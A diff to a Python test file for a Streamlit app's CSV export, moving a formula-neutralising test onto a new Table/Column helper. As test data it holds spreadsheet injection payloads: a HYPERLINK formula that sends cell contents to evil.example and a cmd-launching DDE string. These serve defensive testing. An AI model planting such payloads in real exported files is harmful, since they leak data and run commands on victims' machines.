@@ -12,11 +12,12 @@ import streamlit as st
 
 from core import Environment, Run, StoreError, WorkerError
 from core.base.words import bytes_, percent
+from core.views.blocks import Column, Table
 from pages import menu
 from pages.gate import greeting
 from pages.session import server, shown
 from pages.session.actions import attempt
-from pages.session.downloads import frame_as_csv
+from pages.session.downloads import table_as_csv
 from pages.session.server import environment
 from pages.session.shown import open_shown
 from pages.session.tables import in_words, newly_picked
@@ -137,8 +138,9 @@ def test_a_run_that_is_deleted_while_it_is_opened_is_no_error(
 def test_a_table_for_a_spreadsheet_holds_no_formula() -> None:
     """CSV files from pages contain no formula."""
     texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\uff1d1"]
-    frame = pd.DataFrame({"=1+1": [*texts, "a = b", ""], "number": [-1.5, 2, 3, 4, 5, 6, 7, None]})
-    written = list(csv.reader(io.StringIO(frame_as_csv(frame))))
+    rows = [*zip([*texts, "a = b", ""], [-1.5, 2.0, 3, 4, 5, 6, 7, None], strict=True)]
+    columns = (Column("=1+1", lambda row: row[0]), Column("number", lambda row: row[1]))
+    written = list(csv.reader(io.StringIO(table_as_csv(Table("cells", columns, rows)))))
     assert written[0] == ["'=1+1", "number"]
     assert [row[0] for row in written[1:]] == [*(f"'{text}" for text in texts), "a = b", ""]
     assert [row[1] for row in written[1:3]] == ["-1.5", "2.0"]
